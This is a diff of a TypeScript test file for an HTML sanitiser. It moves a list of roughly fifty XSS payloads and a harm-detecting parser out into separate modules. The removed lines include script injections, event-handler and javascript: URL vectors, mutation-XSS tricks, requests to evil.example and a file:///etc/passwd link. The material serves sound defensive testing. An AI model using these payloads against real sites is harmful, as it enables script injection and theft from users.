@@ -1,116 +1,16 @@
-import { load } from 'cheerio';
 import fc from 'fast-check';
-import { Parser } from 'htmlparser2';
 import { describe, expect, test } from 'vitest';
 import type { SafeHtml } from '../../src/model.ts';
 import { cleanHtml } from '../../src/normalise/clean-html.ts';
 import { htmlToText } from '../../src/text/html.ts';
+import { asBrowserReads, findHarm } from './judge.ts';
+import { allPayloads } from './payloads.ts';
 
 const rel = 'rel="noopener noreferrer nofollow ugc"';
 const clean = (html: string): SafeHtml =>
   cleanHtml({ html, base: undefined, lang: undefined }, 'https://partner.example/2026/post/');
 
-/** What may be in a result, written down apart from the tables under test. */
-const harmless = new Set(
-  `p div blockquote pre hr h2 h3 h4 h5 h6 figure figcaption details summary ul ol li dl dt dd table caption thead tbody tfoot tr td th
-   a img br wbr span bdi em strong b i u s del ins sub sup small mark code kbd samp var abbr cite q dfn time ruby rb rt rp`.split(
-    /\s+/,
-  ),
-);
-const harmlessAttributes = new Set(
-  'href rel src alt width height lang dir cite title datetime colspan rowspan scope start reversed value open'.split(
-    ' ',
-  ),
-);
-
-function findHarm(html: string): string[] {
-  const harm: string[] = [];
-  const parser = new Parser({
-    onopentag(name, attributes) {
-      if (!harmless.has(name)) harm.push(`<${name}>`);
-      for (const [attribute, value] of Object.entries(attributes)) {
-        if (!harmlessAttributes.has(attribute)) harm.push(`${name}[${attribute}]`);
-        if (['src', 'cite'].includes(attribute) && !/^https?:\/\//.test(value)) harm.push(`${attribute}=${value}`);
-        if (attribute === 'href' && !/^(https?:\/\/|mailto:|tel:)/.test(value)) harm.push(`href=${value}`);
-      }
-    },
-    oncomment: (text) => harm.push(`comment ${text}`),
-    onprocessinginstruction: (name) => harm.push(name),
-  });
-  parser.write(html);
-  parser.end();
-  return harm;
-}
-
-/** Parsed by the rules of the HTML standard (parse5) and written again: where a browser would see more than we do. */
-function asBrowserReads(html: string): string {
-  return load(html, null, false).html();
-}
-
-const attacks: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  '<img/src="/a.png"/onload=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  '<img srcset="https://evil.example/1.png 1x" src="https://partner.example/a.png" style="position:fixed" class=x id=y>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="&#106;avascript&colon;alert(1)">x</a>',
-  '<a href=" &#14; javascript:alert(1)">x</a>',
-  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">y</a><a href="file:///etc/passwd">z</a>',
-  '<a href="https://partner.example/" onclick="alert(1)" target=_top ping="https://evil.example/">x</a>',
-  '<a href=\'https://partner.example/"onmouseover=alert(1) x="\'>x</a>',
-  '<xmp><script>alert(1)</script></xmp>',
-  '<listing>&lt;script&gt;alert(1)</listing><plaintext><script>alert(1)</script>',
-  '<noembed><script>alert(1)</script></noembed><noframes><img src=x onerror=alert(1)></noframes>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<template><script>alert(1)</script></template>',
-  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
-  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
-  '<math href="javascript:alert(1)">x</math>',
-  '<form action="https://evil.example/"><input name=p><button formaction=javascript:alert(1)>x</button></form>',
-  '<object data="https://evil.example/x.swf"><param name=a><embed src="javascript:alert(1)"></object>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe>',
-  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)"><link rel=stylesheet href=//evil.example/x>',
-  '<style>@import "https://evil.example/x"; body{display:none}</style>',
-  '<p style="background:url(https://evil.example/x)">x</p><table background="https://evil.example/x"><td background=y>x</table>',
-  '<video poster="https://evil.example/p" onplay=alert(1)><source src=x onerror=alert(1)></video><audio src="javascript:1"></audio>',
-  '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE x [<!ENTITY a "b">]>',
-  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
-  '<bdo dir=rtl>x</bdo><marquee onstart=alert(1)>x</marquee><blink>x</blink><isindex action=javascript:alert(1)>',
-  '<p lang=\'"><script>alert(1)</script>\' dir="x onload=alert(1)">x</p>',
-  '<img alt="--><script>alert(1)</script>" src="https://partner.example/a.png">',
-  "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
-  '<details open ontoggle=alert(1)><summary onfocus=alert(1) tabindex=1>x</summary></details>',
-  '<a href="https://partner.example/\u0000" \u0000onclick=alert(1)>x</a><\u0000script>alert(1)</script>',
-  '<p/onclick=alert(1)//>x<p onclick=alert(1)\u000c>y',
-  '<custom-element onclick=alert(1)><slot name=x>x</slot></custom-element><portal src=x></portal>',
-  '<img src="https://partner.example/a.png" alt="<![CDATA[]]><script>">',
-  '<a id=n1 name=n2 href=#x>x</a><div contenteditable autofocus onfocus=alert(1)>x</div>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;',
-];
-
 describe('cleanHtml', () => {
-  test.each(attacks)('leaves nothing that acts: %s', (html) => {
-    const result = clean(html);
-    expect(findHarm(result)).toEqual([]);
-    expect(findHarm(asBrowserReads(result))).toEqual([]);
-    expect(clean(result)).toBe(result);
-    expect(clean(asBrowserReads(result))).toBe(result);
-  });
-
-  test('the judge of these tests sees harm where there is some', () => {
-    expect(attacks.filter((html) => findHarm(html).length > 0).length).toBeGreaterThan(attacks.length * 0.8);
-  });
-
   test.each([
     [
       'text structure stays',
@@ -311,7 +211,7 @@ describe('cleanHtml', () => {
         'word',
         'كلمة',
       ),
-      ...attacks.map((attack) => fc.constant(attack)),
+      fc.constantFrom(...allPayloads),
       fc.string({ unit: 'binary', maxLength: 6 }),
     );
     fc.assert(
